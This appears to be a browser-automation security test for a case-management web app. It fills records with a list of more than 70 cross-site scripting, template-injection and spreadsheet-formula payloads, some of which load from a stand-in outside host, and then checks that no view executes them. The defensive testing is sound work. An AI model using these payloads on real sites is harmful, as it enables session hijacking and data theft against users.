// markup.mjs - what a stranger would write into a record to have it run at a
// colleague's screen. Each asks for window.hit, a dialog, or another host; none may
// get it. The policy of the page would stop most: that it had to is a failure, too
// (browser.mjs), since text must never become markup in the first place.
import { check, enter, openBrowser } from './browser.mjs';
import { fillCase } from './fill.mjs';

const { CB_URL, CB_LOGIN, CB_PASSWORD, CB_CASE } = process.env;
const OUT = '//elsewhere.example/x';
const PAYLOADS = [
	'<script>hit=1</script>', '<SCRIPT>hit=1</SCRIPT>', `<script src=${OUT}.js></script>`, '<scr<script>ipt>hit=1</scr</script>ipt>', '<script\n>hit=1</script\n>', '<script/x>hit=1</script>',
	'"><script>hit=1</script>', "'><script>hit=1</script>", '</textarea><script>hit=1</script>', '</title><script>hit=1</script>', '</style><script>hit=1</script>', '--><script>hit=1</script>', ']]><script>hit=1</script>',
	'<img src=x onerror=hit=1>', '<img src=x onerror="hit=1">', '<img/src=x/onerror=hit=1>', '<IMG SRC=x oNeRrOr=hit=1>', `<img src=${OUT}.png>`, `<img srcset="${OUT} 1x">`, '<img src="x`" onerror=hit=1 `>', '<image src=x onerror=hit=1>',
	'<svg onload=hit=1>', '<svg/onload=hit=1>', '<svg><script>hit=1</script></svg>', '<svg><animate onbegin=hit=1 attributeName=x dur=1s>', '<svg><a xlink:href="javascript:hit=1"><text y=9>x</text></a></svg>', `<svg><use href="${OUT}.svg#a"></use></svg>`, '<svg><foreignObject><img src=x onerror=hit=1></foreignObject></svg>',
	'<math><mi xlink:href="javascript:hit=1">x</mi></math>', '<math><mtext><table><mglyph><style><img src=x onerror=hit=1>', '<body onload=hit=1>', '<body onpageshow=hit=1>', '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>', '<iframe src="javascript:parent.hit=1"></iframe>', `<iframe src=${OUT}></iframe>`,
	`<object data=${OUT}></object>`, `<embed src=${OUT}>`, `<link rel=stylesheet href=${OUT}.css>`, `<base href=${OUT}>`, `<meta http-equiv=refresh content="0;url=${OUT}">`, `<style>@import "${OUT}.css";</style>`, `<div style="background:url(${OUT}.png)">x</div>`,
	'<a href="javascript:hit=1">x</a>', '<a href="JaVa\tScRiPt:hit=1">x</a>', '<a href="&#106;avascript:hit=1">x</a>', '<a href="data:text/html,<script>opener.hit=1</script>">x</a>', '<form action="javascript:hit=1"><button>x</button></form>', '<input autofocus onfocus=hit=1>', '<select autofocus onfocus=hit=1>', '<details open ontoggle=hit=1>x</details>', '<video src=x onerror=hit=1>', '<audio src=x onerror=hit=1>', '<video><source onerror=hit=1>', '<marquee onstart=hit=1>x</marquee>', '<x onpointerover=hit=1 tabindex=1>x</x>', '<button popovertarget=p>x</button><x id=p popover onbeforetoggle=hit=1>', '<template><script>hit=1</script></template>', '<noscript><p title="</noscript><img src=x onerror=hit=1>">',
	'&lt;script&gt;hit=1&lt;/script&gt;', '\\u003cscript\\u003ehit=1\\u003c/script\\u003e', '%3Cscript%3Ehit=1%3C/script%3E', '+ADw-script+AD4-hit=1+ADw-/script+AD4-', '{{constructor.constructor("hit=1")()}}', '${hit=1}', '#{hit=1}', '<%= hit=1 %>', 'javascript:hit=1', "';hit=1;//", '"-hit=1-"', '`-hit=1-`', '__proto__[hit]=1', "=cmd|'/C hit=1'!A0", '[x](javascript:hit=1)', '![x](javascript:hit=1)',
];

const browser = await openBrowser(CB_URL, /status of 40[1349]/);
const { page } = browser;
const dialogs = [];
page.on('dialog', (dialog) => {
	dialogs.push(dialog.message());
	return dialog.dismiss();
});

/** As many payloads as a field has room for, each time others. */
let next = 0;
const placed = new Set();
function text(max) {
	let out = '';
	for (let tries = 0; tries < 12; tries++, next++) {
		const one = PAYLOADS[next % PAYLOADS.length].replace(/[\t\n]/g, ' ');
		if (out.length + one.length + 1 > Math.min(max, 700)) continue;
		out += `${one} `;
		placed.add(next % PAYLOADS.length);
	}
	return out.trim() || '<b>';
}

await browser.run(async () => {
	check(`there are fifty dresses and more (${PAYLOADS.length})`, PAYLOADS.length >= 50);
	await page.goto(CB_URL);
	await enter(page, CB_LOGIN, CB_PASSWORD);
	await page.locator('header.top').waitFor();
	const told = await fillCase(page, CB_CASE, text, 5);
	check('records of most types take them', Object.values(told).filter((status) => status === 'applied').length >= 8, JSON.stringify(told));
	check(`every one of them was placed (${placed.size})`, placed.size === PAYLOADS.length);

	const sides = ['', '/plan', '/scales', '/people', '/map', '/files', '/history', '/letters'].map((side) => `#/case/${CB_CASE}${side}`);
	for (const hash of [...sides, '#/today', '#/cases', '#/letters', '#/groups', '#/review', '#/conflicts', '#/figures', '#/account']) {
		await page.evaluate((to) => (location.hash = to), hash);
		await page.waitForTimeout(500);
		for (const line of (await page.locator('.record-line').all()).slice(0, 6)) await line.click({ timeout: 1000 }).catch(() => {});
		await page.keyboard.press('Tab');
		const found = await page.evaluate(() => ({
			hit: window.hit,
			strange: document.querySelectorAll('#app script, #app iframe, #app object, #app embed, #app base, #app meta, #app link, #app marquee, #app math, #app [onerror], #app [onload], #app [onfocus], #app [onbegin], #app [ontoggle], #app a[href^="javascript" i], #app img[src=x]').length,
		}));
		check(`${hash.replace(CB_CASE, '…')}: text, and nothing else`, found.hit === undefined && found.strange === 0, JSON.stringify(found));
	}
	check('nobody was asked anything', dialogs.length === 0, dialogs.join('\n'));
});
